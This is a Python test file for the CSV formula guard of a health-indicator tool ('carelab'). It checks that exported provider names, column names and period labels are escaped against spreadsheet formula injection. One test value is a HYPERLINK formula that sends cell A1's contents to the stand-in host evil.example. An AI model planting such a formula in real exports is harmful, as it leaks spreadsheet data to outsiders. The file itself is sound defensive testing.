"""Every CSV the Indicator Lab and its commands write goes through the formula guard."""

from __future__ import annotations

import csv
import io

import pandas as pd

from carelab.cli import main
from carelab.indicators import upload

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"click")'


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_lab_download_neutralises_a_hostile_provider_and_keeps_negatives():
    table = pd.DataFrame({"provider": [HOSTILE, "ok;@SUM(A1)"], "value": [-3.2, 0.5]})
    rows = rows_of(upload.to_csv_bytes(table))
    assert rows == [
        ["provider", "value"],
        ["'" + HOSTILE, "-3.2"],  # a quote after ";" is not a formula start
        ["ok;'@SUM(A1)", "0.5"],
    ]


def test_the_lab_download_neutralises_hostile_column_names():
    table = pd.DataFrame({"a;=b": [1]})
    assert rows_of(upload.to_csv_bytes(table))[0] == ["a;'=b"]


def test_carelab_funnel_neutralises_a_hostile_provider_name(capsys, tmp_path):
    path = tmp_path / "in.csv"
    path.write_text(
        'provider,numerator,denominator\n"Trust;=1+1",1,10\n"-cmd",2,10\n', encoding="utf-8"
    )
    assert main(["funnel", str(path), "--kind", "proportion"]) == 0
    out = capsys.readouterr().out
    assert [row[0] for row in rows_of(out.encode())[1:]] == ["Trust;'=1+1", "'-cmd"]


def test_carelab_spc_neutralises_a_hostile_period_label(capsys, tmp_path):
    path = tmp_path / "in.csv"
    lines = ["period,value"] + [f"{label},{v}" for v, label in enumerate("ABCDEFGHIJ")]
    lines[1] = '"=2+5,@x",-1.5'
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert main(["spc", str(path)]) == 0
    rows = rows_of(capsys.readouterr().out.encode())
    (hostile,) = [r for r in rows if "2+5" in r[0]]
    assert hostile[0] == "'=2+5,'@x"
    assert hostile[1] == "-1.5"
